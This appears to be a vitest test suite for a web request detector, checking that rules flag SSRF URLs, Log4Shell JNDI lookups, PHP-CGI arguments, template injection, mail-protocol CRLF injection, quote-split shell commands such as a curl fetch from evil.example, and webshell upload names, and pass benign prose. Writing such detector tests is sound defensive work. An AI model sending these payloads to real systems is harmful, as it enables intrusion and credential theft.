import { describe, it } from 'vitest';
import { expectAllowed, expectDetected, get, json, post, xmlDoc } from './helpers.ts';

const q = (value: string) => get(`/fetch?url=${encodeURIComponent(value)}`);

describe('SSRF to internal hosts (RFI-100, RFI-141, RFI-150, RFI-151)', () => {
  it.each([
    ['an octal dword behind an unusual scheme', 'rtmp://017700000001', 'RFI-100'],
    ['an IPv6 link-local address with a zone id', 'http://[fe80::1%eth0]/', 'RFI-100'],
    ['http: without slashes and a decimal dword', 'http:2852039166', 'RFI-100'],
    ['http: without slashes and zero-padded octal octets', 'http:0251.0376.0251.0376', 'RFI-100'],
    ['http: without slashes and a loopback quad', 'http:127.0.0.1', 'RFI-100'],
    ['ideographic full stops between the octets', 'http://169\u3002254\u3002169\u3002254/', 'RFI-100'],
    ['a Kubernetes service name', 'http://redis.default.svc.cluster.local:6379/', 'RFI-100'],
    ['a space before the @ that hides the real host', 'http://example.com:80 &@127.0.0.1:22/', 'RFI-141'],
    ['a # before the @ that hides the real host', 'http://example.com#@10.0.0.5/', 'RFI-141'],
    ['a host spelt with escaped characters', 'http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/', 'RFI-141'],
    ['a bare loopback name with a path', 'localhost4.localdomain4/admin', 'RFI-150'],
    ['the Docker host alias with a path', 'host.docker.internal/', 'RFI-150'],
    ['a public name that resolves to 127.0.0.1', 'lvh.me:8080/', 'RFI-150'],
  ])('blocks %s at sensitivity 70', (_name, value, ruleId) => {
    // Prepare
    const req = q(value);
    // Act + Assess
    expectDetected(req, ruleId);
  });

  it('blocks a dword URL inside an XML body at sensitivity 70', () => {
    // Prepare
    const req = xmlDoc('<target>http://2852039166/latest</target>');
    // Act + Assess
    expectDetected(req, 'RFI-151');
  });

  it('blocks the ECS task metadata endpoint anywhere at sensitivity 70', () => {
    // Prepare
    const req = json({ webhook: 'see http://169.254.170.2/v2/credentials' });
    // Act + Assess
    expectDetected(req, 'RFI-120');
  });

  it.each([
    ['an ordinary dotted-quad URL in prose', json({ body: 'The server listens on http://10.0.0.1:8080/ by default.' })],
    ['a port after http: in prose', json({ body: 'Set the proxy to http:8080 for local testing.' })],
    ['a short hex colour after http:', get('/fetch?url=http%3A0xABCDEF')],
    ['the word localhost in a sentence', json({ body: 'Open localhost/ in your browser to see the page.' })],
    ['a host name ending in a service-like word', get('/fetch?url=https%3A%2F%2Fexample.com%2Fsvc%2F')],
    ['a URL with an @ in its path', get('/fetch?url=https%3A%2F%2Fexample.com%2Fusers%2F%40me')],
  ])('allows %s', (_name, req) => {
    expectAllowed(req);
  });
});

describe('Mail-protocol command injection after a line break (RCE-200)', () => {
  it.each([
    ['an SMTP envelope sender', 'to=%0d%0aMAIL%20FROM%3A%3Cattacker%40example.com%3E'],
    ['an SMTP DATA command', 'subject=%0d%0aDATA'],
    ['an IMAP tagged command', 'folder=%0d%0aa001%20EXAMINE%20INBOX'],
    ['an IMAP STORE with an untagged-looking tag', 'folder=%0d%0ad%20store%202%20%2BFLAGS%20%28%5CDeleted%29'],
    ['a POP3 TOP command', 'msg=%0d%0aTOP%201%202'],
    ['a POP3 APOP login', 'user=%0d%0aAPOP%20mrose%20c4c9334bac560ecc979e58001b3e22fb'],
  ])('blocks %s at sensitivity 70', (_name, query) => {
    // Prepare
    const req = get(`/mail?${query}`);
    // Act + Assess
    expectDetected(req, 'RCE-200');
  });

  it.each([
    ['prose that says mail from', 'text=We%20finally%20received%20this%20mail%20from%3A%3Ctest%40example.org%3E'],
    ['a quoted SMTP transcript', 'text=S%3A%20220%20foo.com%20Ready%0AC%3A%20EHLO%20bar.com%0AS%3A%20250%20OK'],
    [
      'a message opening with a line break and a sentence',
      'text=%0aLet%27s%20go%20to%20the%20store%20%28sale%20time%21%29',
    ],
    ['a list of things after a line break', 'text=%0aThis%20is%20a%20way%20to%20list%203%20things'],
  ])('allows %s', (_name, query) => {
    expectAllowed(get(`/mail?${query}`));
  });
});

describe('Java, PHP and template injection (JAVA-100, JAVA-110, PHP-110, PHP-170, PHP-180, SSTI-100, SSTI-120)', () => {
  it.each([
    ['a JNDI LDAP URL without the lookup braces', json({ q: '$&lbracejndi:ldap://evil.example/a}' }), 'JAVA-100'],
    [
      'a Log4Shell lookup with its brace spelt as an entity',
      json({ q: '$&lbrace;jndi:dns://evil.example/a}' }),
      'JAVA-100',
    ],
    [
      'the Spring XML application-context gadget',
      get('/console?handle=ClassPathXmlApplicationContext(%27http://evil.example/x.xml%27)'),
      'JAVA-110',
    ],
    ['a PHP execution function handed a bare command', get('/run?cmd=system(whoami)'), 'PHP-110'],
    ['a PHP execution function with a line break before its parenthesis', get('/run?cmd=exec%0A(%27id%27)'), 'PHP-110'],
    ['a PHP function with a comment before its parenthesis', get('/run?f=checkdate%2F*x*%2F()'), 'PHP-170'],
    ['a php.ini directive as the value', get('/set?code=allow_url_include%3DOn'), 'PHP-180'],
    ['PHP-CGI -d arguments', get('/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input'), 'PHP-180'],
    ['a namespaced engine directive', post('application/x-www-form-urlencoded', 'var=opcache.jit%3D1255'), 'PHP-180'],
    ['a Smarty closing php tag', get('/t?tpl=echo%20%22x%22%7B%2Fphp%7D'), 'SSTI-100'],
    ['spaced Python dunders in a template expression', get('/t?name={{[].__ class __.__ base __}}'), 'SSTI-100'],
    ['a Jinja loop over a literal list', get('/t?name={%25 for c in [1,2,3] %25}{{c}}{%25 endfor %25}'), 'SSTI-120'],
  ])('blocks %s at sensitivity 70', (_name, req, ruleId) => {
    expectDetected(req, ruleId);
  });

  it.each([
    ['prose about JNDI', json({ body: 'Look the data source up through JNDI at java:comp/env/jdbc/app.' })],
    ['prose about the file system', json({ body: 'Check the file system (ext4) before you resize it.' })],
    ['a php.ini setting quoted in prose', json({ body: 'Raise memory_limit = 512M in php.ini if uploads fail.' })],
    ['a Jinja loop over a variable', json({ body: '{% for item in items %}{{ item.name }}{% endfor %}' })],
  ])('allows %s', (_name, req) => {
    expectAllowed(req);
  });
});

describe('Commands split by quotes inside the word (RCE-202)', () => {
  it.each([
    ['single quotes around the first letter', "'i'fconfig"],
    ['double quotes inside the word', 'w"h"oami'],
    ['a split download command with a host', "'c'url evil.example/x.sh"],
    ['a chained split command', "1;'wh'oami"],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    expectDetected(get(`/ping?host=${encodeURIComponent(value)}`), 'RCE-202');
  });

  it.each([
    ['a name with apostrophes', "O'keefe's"],
    ['a command word quoted as a whole', "'id'"],
    ['a sentence with a contraction', "It's the id card"],
  ])('allows %s', (_name, value) => {
    expectAllowed(get(`/ping?host=${encodeURIComponent(value)}`));
  });
});

describe('More shell commands after a separator (RCE-100, RCE-130)', () => {
  it.each([
    ['a configuration-management tool after a semicolon', 'x;ansible-inventory --list', 'RCE-100'],
    ['sudoers editing after a semicolon', 'x;visudo', 'RCE-100'],
    ['login history after a semicolon', ';lastlog -u root', 'RCE-100'],
    ['the user shell run through $SHELL', '$SHELL -c "id"', 'RCE-130'],
  ])('blocks %s at sensitivity 70', (_name, value, ruleId) => {
    expectDetected(get(`/run?cmd=${encodeURIComponent(value)}`), ruleId);
  });

  it('allows prose that names a configuration-management tool', () => {
    expectAllowed(json({ body: 'We provision the hosts with Ansible; chef is what the other team uses.' }));
  });
});

describe('Whole-value admin command lines (RCE-150) and ORM leaks (NODE-170)', () => {
  it.each([
    ['a compressed log read with zstdcat', get('/run?cmd=zstdcat%20/var/log/auth.log.zst'), 'RCE-150'],
    ['an Ansible inventory dump', get('/run?cmd=ansible-inventory%20--list'), 'RCE-150'],
    ['a password brute-forced through a prefix lookup', get('/users?password__startswith=pbkdf2'), 'NODE-170'],
    [
      'a filter walking four relations',
      json({ created_by__departments__employees__user__username__startswith: 'a' }),
      'NODE-170',
    ],
  ])('blocks %s at sensitivity 70', (_name, req, ruleId) => {
    expectDetected(req, ruleId);
  });

  it.each([
    ['an ordinary django-filter lookup', get('/products?price__gte=10&name__icontains=lamp')],
    ['a two-relation lookup', get('/books?author__name__istartswith=tol')],
    ['prose naming a decompression tool', json({ body: 'Use zstdcat to read the compressed logs.' })],
  ])('allows %s', (_name, req) => {
    expectAllowed(req);
  });
});

describe('Script uploads named in a multipart part (PHP-160 reads the part file name)', () => {
  const upload = (filename: string) =>
    post(
      'multipart/form-data; boundary=XyZ',
      `--XyZ\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--XyZ--\r\n`,
    );

  it.each([['x.php.jpg'], ['shell. php'], ['photo.php5  '], ['shell.jspx']])(
    'blocks the file name %s at sensitivity 70',
    (filename) => {
      expectDetected(upload(filename), 'PHP-160');
    },
  );

  it('allows an ordinary image file name', () => {
    expectAllowed(upload('holiday photo.jpg'));
  });
});
